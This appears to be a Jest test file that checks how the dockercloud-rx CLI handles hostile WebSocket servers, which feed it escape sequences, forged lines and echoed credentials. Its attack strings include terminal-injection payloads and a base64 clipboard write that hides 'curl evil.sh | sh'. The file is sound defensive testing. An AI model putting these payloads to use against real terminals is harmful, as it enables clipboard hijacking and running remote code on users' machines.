// Hostile servers against the terminal: `dockercloud-rx events` runs as a real child process
// against a scripted `ws` server on 127.0.0.1, one per attack, which puts escape sequences,
// control characters, bidi controls and forged lines everywhere a server can put text (event
// fields, unknown types, malformed frames, close reasons), echoes the credentials back, and
// sends an event too deep to print. What the process writes, stdout and stderr, is checked as
// it arrives: nothing the terminal would act on, no forged line, no credential, and the process
// goes on to print the good event sent after the attack.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { assertBuilt, childEnv, CliRunner, type CliProcess } from '../cli/support.js';
import { closeAllServers, startServer, type ServerConnection, type TestServer } from '../integration/support/server.js';

jest.setTimeout(30_000);

/** Everything a terminal acts on, except the line feed that ends the CLI's own lines. */
const ACTIVE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

const USER = 'hostile-user';
const API_KEY = 'k3y-0f-the-h0stile-test-7f9a2c';
const BASIC = Buffer.from(`${USER}:${API_KEY}`).toString('base64');

/** The forged line a server tries to slip in: it looks like an event line of the CLI. */
const FORGED = '23:59:59  container    update  Starting → Running              deadbeef  FORGED';

/** Every attack on a terminal, in one string. */
const ATTACKS = [
  '\x1b]0;window title set by the server\x07', // OSC 0: retitle the window
  '\x1b]2;title\x1b\\', // OSC 2, ended by ST
  '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', // OSC 52: write the clipboard
  '\x1b[2J\x1b[H', // CSI 2J: clear the screen
  '\x9b2J', // the same with the 8-bit CSI (C1)
  '\x9d0;c1 title\x9c', // 8-bit OSC … ST
  '\x07\x08\x7f', // BEL, BS, DEL
  '\u202egninnuR\u202c\u2066x\u2069', // bidi override and isolate
  '\u2028\u2029', // line and paragraph separators
  `\r${FORGED}`, // overwrite the line
  `\n${FORGED}`, // a line of its own
].join('');

const GOOD = {
  type: 'container',
  action: 'update',
  state: 'Running',
  resource_uri: '/api/app/v1/container/0123456789abcdef/',
  parents: ['/api/app/v1/service/fedcba9876543210/'],
  uuid: 'good-event',
  datetime: '2016-02-01T16:47:28Z',
};

const cli = new CliRunner();
let server: TestServer | undefined;

beforeAll(assertBuilt);
afterEach(async () => {
  await cli.killAll();
  await closeAllServers();
  server = undefined;
});

/** Starts a server that runs `script` on each connection (its index given), and the CLI against it. */
async function attack(args: readonly string[], script: (connection: ServerConnection) => Promise<void> | void): Promise<CliProcess> {
  server = await startServer({ connection: (connection) => void script(connection) });
  return cli.run(['events', '--url', server.url, '--utc', ...args], childEnv({ DOCKERCLOUD_USER: USER, DOCKERCLOUD_APIKEY: API_KEY }));
}

/** What a person would see is safe: nothing the terminal acts on, no forged line, no credential. */
function expectSafe(run: CliProcess): void {
  const output = `${run.stdout}${run.stderr}`;
  const active = ACTIVE.exec(output);
  expect(active === null ? 'none' : `U+${active[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${active.index}`).toBe('none');
  for (const line of output.split('\n')) expect(line.startsWith('23:59:59')).toBe(false);
  for (const secret of [API_KEY, BASIC]) {
    // Nor a fragment of one, as a line cut to fit could leave.
    for (let i = 0; i + 12 <= secret.length; i++) expect(output).not.toContain(secret.slice(i, i + 12));
  }
}

/** The good event, sent after the attack, was printed last: the CLI went on. */
function goodLine(run: CliProcess, json: boolean): boolean {
  const last = run.lines[run.lines.length - 1] ?? '';
  return json
    ? last.includes('"uuid":"good-event"')
    : /^16:47:28 {2}container {4}update {2}.*Running +01234567 {2}service\/fedcba98$/.test(last);
}

describe.each([
  ['plain', false],
  ['--json', true],
])('dockercloud-rx events against a hostile server (%s)', (_, json) => {
  const mode = json ? ['--json'] : [];

  it('shows escape sequences, controls and forged lines in event fields as escapes, and goes on', async () => {
    const run = await attack(['--count', '3', ...mode], (connection) =>
      connection.send(
        { ...GOOD, state: `Running${ATTACKS}`, uuid: `u1${ATTACKS}`, parents: [`/api/app/v1/service/${ATTACKS}/`] },
        { ...GOOD, resource_uri: `/api/app/v1/container/${ATTACKS}/` },
        GOOD,
      ),
    );
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(goodLine(run, json)).toBe(true);
    // What the server sent is still there to read, as escapes.
    expect(run.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007');
    expect(run.stdout).toContain('\\u009b2J\\u009d0;c1 title\\u009c');
  });

  it('shows an unknown type and its payload, and an error message, as escapes', async () => {
    const run = await attack(['--count', '4', ...mode], (connection) =>
      connection.send(
        { type: `image${ATTACKS}`, action: `push${ATTACKS}`, state: `Pushed${ATTACKS}`, resource_uri: `/api/repo/v1/image/${ATTACKS}/` },
        { type: `note${ATTACKS}`, payload: { text: ATTACKS, list: [ATTACKS] } },
        { type: 'error', data: { errorMessage: `denied${ATTACKS}` } },
        GOOD,
      ),
    );
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(goodLine(run, json)).toBe(true);
  });

  it('reports malformed and wrong-shape frames with safe excerpts, and goes on', async () => {
    const run = await attack(['--count', '1', ...mode], (connection) =>
      connection.send(
        `{"type":"container",${ATTACKS}`,
        `${ATTACKS}not json at all`,
        JSON.stringify({ type: 'container', state: ATTACKS }),
        GOOD,
      ),
    );
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(run.stderr.match(/rejected a frame/g)?.length).toBeGreaterThanOrEqual(2);
    expect(goodLine(run, json)).toBe(true);
  });

  it('shows a close reason as escapes, reconnects, and goes on', async () => {
    // A close reason holds at most 123 bytes: the attacks that matter most, in one.
    const reason = `\x1b]0;t\x07\x1b]52;c;eA==\x07\x1b[2J\x9b2J\u202e\r${FORGED.slice(0, 40)}`;
    const run = await attack(['--count', '1', ...mode], (connection) => {
      if (connection.index === 0) connection.ws.close(4000, reason);
      else void connection.send(GOOD);
    });
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(run.stderr).toMatch(/connection lost: .*\\u001b\]0;t\\u0007/);
    expect(goodLine(run, json)).toBe(true);
  });

  it('shows a close reason as escapes in the error it ends with, after the last attempt', async () => {
    const reason = `\x1b]0;t\x07\x1b[2J\x9b2J\u202e\n${FORGED.slice(0, 40)}`;
    const run = await attack(['--max-attempts', '1', ...mode], (connection) => connection.ws.close(4000, reason));
    expect((await run.finished(20_000)).code).toBe(1);
    expectSafe(run);
    expect(run.stderr).toMatch(/^dockercloud-rx: .*\\u001b\]0;t\\u0007/m);
  });

  it('never prints the credentials a server echoes back, on stdout or stderr', async () => {
    const run = await attack(['--count', '2', ...mode], (connection) => {
      const echoed = String(connection.request.headers.authorization ?? '');
      return connection.send(
        { ...GOOD, state: `${echoed} ${API_KEY}`, uuid: echoed },
        `{"malformed": "${echoed} ${API_KEY}`,
        // Plain lines show the first 60 characters of what such a message carries: the key straddles the cut.
        { type: 'note', pad: 'x'.repeat(30), key: API_KEY, auth: echoed },
        GOOD,
      );
    });
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(`${run.stdout}${run.stderr}`).toContain('***');
  });
});

describe('dockercloud-rx events --color against a hostile server', () => {
  it('writes its own colours and none of the server: no hidden text, no sequence but its palette', async () => {
    const conceal = '\x1b[8m\x1b[30;40m';
    const run = await attack(['--count', '2', '--color'], (connection) =>
      connection.send({ ...GOOD, state: `Running${conceal}${ATTACKS}`, parents: [`/api/app/v1/service/${conceal}/`] }, GOOD),
    );
    expect((await run.finished(20_000)).code).toBe(0);
    const output = `${run.stdout}${run.stderr}`;
    expect(output).toContain('\x1b[36mcontainer\x1b[39m');
    expect(output).not.toContain('\x1b[8m');
    expect(output).not.toContain('\x1b[30;40m');
    expect(output).toContain('\\u001b[8m');
    // Without the palette's own codes (ESC [ n m), nothing a terminal acts on is left.
    expect(output.replace(/\x1b\[\d{1,3}m/g, '')).not.toMatch(ACTIVE);
    for (const line of output.split('\n')) expect(line.replace(/\x1b\[\d{1,3}m/g, '').startsWith('23:59:59')).toBe(false);
  });
});

describe('dockercloud-rx events --json against an event too deep to print', () => {
  it('reports it like a rejected frame and goes on', async () => {
    // 200 kB, under the default 1 MiB frame limit; JSON.parse takes it, JSON.stringify cannot.
    const deep = `{"type":"weird","data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const run = await attack(['--count', '2', '--json'], (connection) => connection.send(deep, GOOD));
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(run.stderr).toMatch(/! rejected a frame: could not print it \(RangeError: /);
    expect(run.lines.filter((line) => line.includes('"uuid":"good-event"'))).toHaveLength(1);
  });
});

describe.each([
  ['plain', false],
  ['--json', true],
])('dockercloud-rx replay of a recording of a hostile server (%s)', (_, json) => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'dockercloud-rx-hostile-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('shows what the server sent as escapes, scrubs the credentials, survives a deep line, and goes on', async () => {
    const file = join(dir, `run${json ? '-json' : ''}.jsonl`);
    const records = [
      { ...GOOD, state: `Running${ATTACKS}`, parents: [`/api/app/v1/service/${ATTACKS}/`] },
      { ...GOOD, uuid: `${API_KEY} ${BASIC}`, state: API_KEY },
      { ...GOOD, uuid: 'deep', extra: 'DEEP' },
      GOOD,
    ].map((event, i) => JSON.stringify({ t: i * 10, event }));
    // An extra field nested too deep for JSON.stringify (decodeEvent keeps only the model's fields).
    records[2] = records[2]!.replace('"DEEP"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
    writeFileSync(file, `${records.join('\n')}\n`);
    const run = cli.run(
      ['replay', file, '--speed', 'max', '--utc', ...(json ? ['--json'] : [])],
      childEnv({ DOCKERCLOUD_USER: USER, DOCKERCLOUD_APIKEY: API_KEY }),
    );
    expect((await run.finished(20_000)).code).toBe(0);
    expectSafe(run);
    expect(`${run.stdout}${run.stderr}`).toContain('***');
    expect(run.lines).toHaveLength(records.length);
    expect(goodLine(run, json)).toBe(true);
  });
});
